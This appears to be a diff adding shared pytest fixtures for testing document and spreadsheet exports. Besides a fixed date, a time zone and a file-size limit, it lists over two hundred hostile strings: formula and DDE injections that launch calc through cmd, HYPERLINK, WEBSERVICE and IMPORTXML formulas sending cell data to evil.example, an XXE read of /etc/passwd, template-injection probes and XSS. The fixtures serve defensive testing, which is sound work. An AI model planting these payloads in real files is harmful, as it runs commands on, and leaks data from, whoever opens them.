@@ -1,0 +1,116 @@
+"""What every test of documents needs: a moment, a zone, and two hundred texts that mean harm."""
+
+from __future__ import annotations
+
+import signal
+from datetime import UTC, datetime
+from itertools import product
+from typing import TYPE_CHECKING
+from zoneinfo import ZoneInfo
+
+import pytest
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+_STARTS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    " =",
+    "'=",
+    '"=',
+    ";=",
+    ",=",
+    "\x00=",
+    "\u202e=",
+)
+_FORMULAS = (
+    "1+1",
+    "cmd|'/c calc'!A1",
+    'HYPERLINK("http://evil.example/?"&A1,"click")',
+    'DDE("cmd";"/c calc";"1")',
+    'WEBSERVICE("http://evil.example/"&A2)',
+    "SUM(1;2)*cmd|' /C notepad'!'A1'",
+    'IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    "A1:XFD1048576",
+    "\\\\evil.example\\share\\x.xlsx",
+)
+_WHOLE = (
+    'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
+    '{ DDEAUTO cmd "/k calc" }',
+    "{{case.title}}",
+    "{{#rows}}{{/rows}}",
+    "{{image:rows.picture}}",
+    "{% for x in ''.__class__.__mro__ %}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    '</w:t></w:r><w:r><w:instrText>INCLUDEPICTURE "http://evil.example/x"</w:instrText></w:r><w:r><w:t>',
+    "]]><f>1+1</f><![CDATA[",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
+    "&amp;&lt;&#x0;&#0;&quot;",
+    "<script>alert(1)</script>",
+    '" onload="x" w:anchor="y',
+    "file://///evil.example/share",
+    "\\\\evil.example\\share\\a.png",
+    "mailto:a@b.com?subject=x",
+    "http://evil.example/#anchor",
+    "#REF!",
+    "#N/A",
+    "TRUE",
+    "00123",
+    "12345678901234567890",
+    "1E5",
+    "2026-11-24",
+    "_x0041_",
+    "_x000D_",
+    "a\x00b\x01c\x08d\x0be\x0cf\x1fg\x7fh\x9fi",
+    "\ud800 alone",
+    "pair reversed \udc00\ud800",
+    "\ufffe\uffff",
+    "\ue0000\ue001",
+    "\u202egnp.exe",
+    "\u200b\u2060\ufeff",
+    "e\u0302\u0303 nho\u031b\u0300",
+    "한국어 \u1112\u1161\u11ab",
+    "👩‍👩‍👧‍👦 🇻🇳",
+    "a\r\nb\rc\nd",
+    "  leading and trailing  ",
+    "",
+)
+
+
+@pytest.fixture(scope="session")
+def hostile() -> list[str]:
+    texts = [start + formula for start, formula in product(_STARTS, _FORMULAS)] + list(_WHOLE)
+    assert len(texts) >= 200
+    return texts
+
+
+@pytest.fixture(scope="session")
+def zone() -> ZoneInfo:
+    return ZoneInfo("Asia/Ho_Chi_Minh")
+
+
+@pytest.fixture(scope="session")
+def as_of() -> datetime:
+    return datetime(2026, 11, 24, 7, 30, tzinfo=UTC)
+
+
+@pytest.fixture
+def small_disk() -> Iterator[None]:
+    """Let no file grow over 64 KiB, as a disk does that is nearly full."""
+    resource = pytest.importorskip("resource", reason="limits of POSIX")
+    before = resource.getrlimit(resource.RLIMIT_FSIZE)
+    ignored = signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+    resource.setrlimit(resource.RLIMIT_FSIZE, (65_536, before[1]))
+    yield
+    resource.setrlimit(resource.RLIMIT_FSIZE, before)
+    signal.signal(signal.SIGXFSZ, ignored)
